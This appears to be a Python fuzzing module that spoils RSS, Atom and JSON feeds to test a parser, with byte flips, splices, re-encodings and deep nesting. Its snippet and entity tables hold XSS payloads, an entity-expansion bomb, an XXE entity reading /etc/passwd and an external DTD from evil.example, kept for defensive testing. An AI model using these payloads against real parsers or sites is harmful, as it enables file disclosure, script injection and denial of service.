"""Ways to spoil a feed: bytes, tokens, structure. Each takes chance and bytes and gives bytes."""

from __future__ import annotations

import gzip
import re
from collections.abc import Callable, Sequence
from random import Random
from typing import Final

LARGEST: Final = 400_000  # bytes of a spoilt feed: what takes long at this size would take for ever at a larger one

_TOKEN = re.compile(rb"<[^<>]{0,2000}>?|&[^;<]{0,20};?|[^<&]{1,2000}")
_NUMBER = re.compile(rb"\d{1,20}")
_VALUE = re.compile(rb"(=\s*[\"'])([^\"'<]{0,500})([\"'])")
_ELEMENT = re.compile(rb"<([A-Za-z][\w:.-]{0,40})")
_TEXT = re.compile(rb">([^<>]{1,5000})</")
_ITEM = re.compile(rb"<item\b.{0,20000}?</item>|<entry\b.{0,20000}?</entry>", re.DOTALL)
_SMALL = re.compile(rb"<([A-Za-z][\w:.-]{0,40})[^<>]{0,300}>[^<]{0,500}</\1>|<[A-Za-z][^<>]{0,300}/>")
_SNIPPETS: Final = (
    *(b"<", b">", b"&", b'"', b"'", b"]]>", b"<![CDATA[", b"<!--", b"-->", b"<!DOCTYPE x [", b"]>", b"<?xml ", b"?>"),
    *(b"<item>", b"</item>", b"<entry>", b"</entry>", b"</channel>", b"</rss>", b"<rss version='2.0'>", b"<channel>"),
    *(
        b"&#0;",
        b"&#xD800;",
        b"&#1114112;",
        b"&#" + b"9" * 5000 + b";",
        b"&nosuch;",
        b"&lt;script&gt;x()&lt;/script&gt;",
    ),
    *(b"<script>x()</script>", b"<svg/onload=x()>", b"<img src=x onerror=x()>", b"<math><mtext></p>", b"<template>"),
    *(b"javascript:x()", b"data:text/html,<b>", b"//evil.example/x", b"http://[::1", b"http://a@b.example/", b"\\x"),
    *(b"\x00", b"\x1b[31m", b"\x9b", b"\x07", b"\xff\xfe", b"\xef\xbb\xbf", b"\xed\xa0\x80", b"\xe2\x80\xae", b"\xc3"),
    *(b" xmlns:x='y'", b" xmlns='z'", b" xml:base='http://b.example/%zz'", b" encoding='undefined'", b" version='9'"),
    *(
        b"<gml:pos>1</gml:pos>",
        b"<psc:chapter/>",
        b"<width>w</width>",
        b"<georss:polygon>1</georss:polygon>",
        b"<a:b:c>",
    ),
    *(b'{"a":', b"[[[[", b"]", b"}", b"\\ud800", b"\\u0000", b"1e999", b"NaN", b"null", b'"items": 7', b"\x85", b"<?"),
    *(b"Fri, 31 Feb 10000 25:61:61 XYZ", b"0000-00-00T00:00:00Z", b"9999-12-31T23:59:59-12:00", b"1294531200000"),
)
_FLOODS: Final = (b" ", b"\n", b"a", b" a='b'", b"<b>", b"<x:y z='1'>", b"&amp;", b"<category>c</category>")
_ENCODINGS: Final = ("utf-16", "utf-16-be", "utf-32", "utf-8-sig", "windows-1252", "iso-8859-1", "utf-7", "cp037")
_LABELS: Final = (
    b"undefined",
    b"utf-16",
    b"idna",
    b"unicode_escape",
    b"\x00",
    b"\xff",
    b"x" * 999,
    b"cp037",
    b"latin-1",
)
_ENTITIES: Final = (
    b'<!ENTITY a "%s"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">' % (b"A" * 1000),
    b'<!ENTITY c SYSTEM "file:///etc/passwd">',
    b'<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
    b'<!ENTITY c "<item><title>new</title></item>">',
)


def spoilt(chance: Random, body: bytes, others: Sequence[bytes]) -> bytes:
    """`body` after one to six changes; parts of `others` may have come into it.

    Four in ten stay sound XML or JSON, more or less: what is wrong with them is what they say.
    """
    ways = GENTLE if chance.random() < 0.4 else WAYS
    for _ in range(chance.choice((1, 1, 2, 2, 3, 4, 6))):
        body = chance.choice(ways)(chance, body, others)[:LARGEST]
    return body


def _flipped(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    data = bytearray(body)
    for _ in range(chance.randint(1, 20)):
        if data:
            data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


def _cut(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """A piece is missing, at the end as often as not."""
    begin, end = _span(chance, body)
    return body[:begin] + (body[end:] if chance.random() < 0.5 else b"")


def _doubled(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    begin, end = _span(chance, body)
    return body[:end] + body[begin:end] * chance.choice((1, 1, 2, 10)) + body[end:]


def _with_snippets(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    for _ in range(chance.randint(1, 5)):
        at = chance.randint(0, len(body))
        body = body[:at] + chance.choice(_SNIPPETS) + body[at:]
    return body


def _flooded(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """One snippet many times over: what is quadratic shows here."""
    snippet = chance.choice((*_SNIPPETS, *_FLOODS))
    at = chance.choice((0, chance.randint(0, len(body))))
    return body[:at] + snippet * min(chance.choice((100, 1000, 20_000)), 200_000 // len(snippet)) + body[at:]


def _spliced(chance: Random, body: bytes, others: Sequence[bytes]) -> bytes:
    """The beginning of one and the end of another."""
    other = chance.choice(others)
    return body[: chance.randint(0, len(body))] + other[chance.randint(0, len(other)) :]


def _tokens_moved(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """Tags, entities and texts taken out, doubled and put elsewhere."""
    tokens = _TOKEN.findall(body)
    for _ in range(chance.randint(1, 6)):
        if not tokens:
            break
        token = tokens[chance.randrange(len(tokens))]
        match chance.randrange(3):
            case 0:
                tokens.remove(token)
            case 1:
                tokens.insert(chance.randint(0, len(tokens)), token)
            case _:
                tokens[chance.randrange(len(tokens))] = token
    return b"".join(tokens)


def _renamed(chance: Random, body: bytes, others: Sequence[bytes]) -> bytes:
    """An element gets another's name, in the start tags, the end tags or both."""
    names = _ELEMENT.findall(body)
    strange = _ELEMENT.findall(chance.choice(others)) or [b"x"]
    if not names:
        return body
    old, new = chance.choice(names), chance.choice((*names[:50], *strange[:50], b"a:b:c", b"html"))
    if chance.random() < 0.7:
        body = body.replace(b"</" + old, b"</" + new)
    return body.replace(b"<" + old, b"<" + new, chance.choice((1, -1)))


def _revalued(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """Attribute values and numbers become something else."""
    pattern = chance.choice((_VALUE, _NUMBER))
    found = list(pattern.finditer(body))
    if not found:
        return body
    match, new = chance.choice(found), chance.choice((*_SNIPPETS, b"9" * 400, b"", b"a" * 3000))
    replacement = match[1] + new + match[3] if pattern is _VALUE else new
    return body[: match.start()] + replacement + body[match.end() :]


def _nested(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """Elements in elements in elements, as markup or escaped."""
    opened, closed = chance.choice(
        ((b"<b>", b"</b>"), (b"&lt;div&gt;", b"&lt;/div&gt;"), (b"<item>", b"</item>"), (b"[", b"]"), (b'{"a":', b"}"))
    )
    depth, at = chance.choice((50, 500, 20_000)), chance.randint(0, len(body))
    return body[:at] + opened * depth + (closed * depth if chance.random() < 0.5 else b"") + body[at:]


def _recoded(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """In another encoding, whatever it says of itself."""
    return body.decode("utf-8", "replace").encode(chance.choice(_ENCODINGS), "replace")


def _mislabelled(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """Says of itself what is not so."""
    label = b'<?xml version="1.0" encoding="' + chance.choice(_LABELS) + b'"?>'
    return label + re.sub(rb"^\s*<\?xml[^>]{0,200}>", b"", body)


def _with_entities(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """A document type that declares what it had better not."""
    declared = b"<!DOCTYPE x [" + chance.choice(_ENTITIES) + b"]>"
    begin = body.find(b"?>") + 2 if body.startswith(b"<?xml") else 0
    at = chance.randint(begin, len(body))
    return body[:begin] + declared + body[begin:at] + b"&c;" * chance.choice((1, 1000)) + body[at:]


def _reworded(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """A text says something else, properly escaped or in CDATA."""
    found = list(_TEXT.finditer(body))
    if not found:
        return body
    match, new = chance.choice(found), b" ".join(chance.choices(_SNIPPETS, k=chance.randint(1, 4)))
    new = bytes(byte for byte in new if byte >= 32 or byte in b"\t\n").decode("utf-8", "ignore").encode()
    escaped = new.replace(b"&", b"&amp;").replace(b"<", b"&lt;").replace(b">", b"&gt;")
    told = chance.choice((escaped, b"<![CDATA[" + new.replace(b"]]>", b"") + b"]]>", match[1] + escaped, b" \n "))
    return body[: match.start(1)] + told + body[match.end(1) :]


def _items_moved(chance: Random, body: bytes, others: Sequence[bytes]) -> bytes:
    """Whole items doubled, taken out, or come from another feed."""
    found = list(_ITEM.finditer(body))
    if not found:
        return body
    match, stranger = chance.choice(found), chance.choice(_ITEM.findall(chance.choice(others)) or [b""])
    instead = chance.choice((b"", match[0] * 2, match[0] + stranger, match[0] * 8))
    return body[: match.start()] + instead + body[match.end() :]


def _elements_moved(chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """A small element doubled, taken out, or put behind another."""
    found = list(_SMALL.finditer(body))
    if not found:
        return body
    match, other = chance.choice(found), chance.choice(found)
    instead = chance.choice((b"", match[0] * 2, match[0] + other[0], other[0] + match[0]))
    return body[: match.start()] + instead + body[match.end() :]


def _packed(_chance: Random, body: bytes, _others: Sequence[bytes]) -> bytes:
    """Packed, and no header says so."""
    return gzip.compress(body, mtime=0)


def _span(chance: Random, body: bytes) -> tuple[int, int]:
    begin = chance.randint(0, len(body))
    return begin, min(len(body), begin + chance.choice((1, 5, 50, 500, 5000)))


WAYS: Final[tuple[Callable[[Random, bytes, Sequence[bytes]], bytes], ...]] = (
    *(_flipped, _cut, _doubled, _with_snippets, _with_snippets, _flooded, _spliced, _tokens_moved, _tokens_moved),
    *(_renamed, _revalued, _revalued, _nested, _recoded, _mislabelled, _with_entities, _packed),
    *(_reworded, _items_moved, _elements_moved),
)
GENTLE: Final = (_reworded, _reworded, _items_moved, _elements_moved, _elements_moved)
